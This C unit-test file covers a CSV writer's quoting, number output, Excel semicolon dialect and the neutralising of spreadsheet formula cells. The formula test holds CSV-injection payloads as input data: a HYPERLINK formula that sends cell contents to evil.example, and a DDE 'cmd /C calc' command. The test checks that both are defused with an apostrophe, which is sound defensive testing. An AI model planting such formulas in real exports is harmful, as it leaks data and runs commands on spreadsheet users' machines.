/* Unit tests for kpid's CSV writer: quoting, numbers, and neutralised formula cells. */
#include "kpi_check.h"
#include "kpid/http/csv.h"

/* The CSV of one JSON array text in format, as a string the test frees. */
static char *render(const char *rows_json, enum kpid_reply_format format)
{
    json_t *rows = json_loads(rows_json, 0, NULL);
    ck_assert_ptr_nonnull(rows);
    size_t len = 0;
    char *text = kpid_csv_render(rows, format, &len);
    json_decref(rows);
    ck_assert_ptr_nonnull(text);
    char *out = strndup(text, len);
    free(text);
    return out;
}

static void assert_csv(const char *rows_json, const char *want)
{
    char *got = render(rows_json, KPID_FORMAT_CSV);
    ck_assert_str_eq(got, want);
    free(got);
}

static void assert_excel(const char *rows_json, const char *want)
{
    char *got = render(rows_json, KPID_FORMAT_CSV_EXCEL);
    ck_assert_str_eq(got, want);
    free(got);
}

START_TEST(formula_cells_get_an_apostrophe)
{
    assert_csv("[{\"channel\":\"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"Click\\\")\"}]",
               "channel\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"\r\n");
    assert_csv("[{\"a\":\"-2+3+cmd|' /C calc'!A0\",\"b\":\"+1\",\"c\":\"@SUM(A1)\"}]",
               "a,b,c\r\n'-2+3+cmd|' /C calc'!A0,'+1,'@SUM(A1)\r\n");
    assert_csv("[{\"a\":\"\\tx\",\"b\":\"\\rx\"}]", "a,b\r\n'\tx,\"'\rx\"\r\n");
}
END_TEST

START_TEST(numbers_and_plain_text_unchanged)
{
    assert_csv("[{\"n\":-2.5,\"i\":-3,\"s\":\"a-b\",\"e\":\"\",\"z\":null}]",
               "n,i,s,e,z\r\n-2.5,-3,a-b,,\r\n");
    assert_csv("[{\"t\":\"x,y\"},{\"u\":[1,\"=2\"]}]",
               "t,u\r\n\"x,y\",\r\n,\"[1,\"\"=2\"\"]\"\r\n");
}
END_TEST

START_TEST(nested_members_are_flattened)
{
    assert_csv("[{\"a\":{\"b\":\"=1\",\"c\":2}}]", "a_b,a_c\r\n'=1,2\r\n");
}
END_TEST

/* Excel with Russian regional settings: BOM, ';' between cells, ',' as the decimal mark. */
START_TEST(excel_dialect)
{
    assert_excel("[{\"kpi\":\"cac\",\"fact\":1234.5,\"n\":-3,\"r\":0.975,\"z\":null}]",
                 "\xEF\xBB\xBFkpi;fact;n;r;z\r\ncac;1234,5;-3;0,975;\r\n");
    /* text keeps its commas and points unquoted; ';', quotes and line breaks are quoted */
    assert_excel("[{\"a\":\"x,y 1.5\",\"b\":\"p;q\",\"c\":\"say \\\"hi\\\"\",\"d\":\"=1;2\"}]",
                 "\xEF\xBB\xBF" "a;b;c;d\r\nx,y 1.5;\"p;q\";\"say \"\"hi\"\"\";\"'=1;2\"\r\n");
    /* nested members are flattened; arrays stay JSON text, their numbers untouched */
    assert_excel("[{\"t\":{\"plan\":2.25},\"u\":[1.5,2]}]",
                 "\xEF\xBB\xBFt_plan;u\r\n2,25;[1.5,2]\r\n");
}
END_TEST

int main(void)
{
    Suite *s = suite_create("http_csv");
    TCase *tc = tcase_create("csv");
    tcase_add_test(tc, formula_cells_get_an_apostrophe);
    tcase_add_test(tc, numbers_and_plain_text_unchanged);
    tcase_add_test(tc, nested_members_are_flattened);
    tcase_add_test(tc, excel_dialect);
    suite_add_tcase(s, tc);
    return kpi_check_run(s);
}
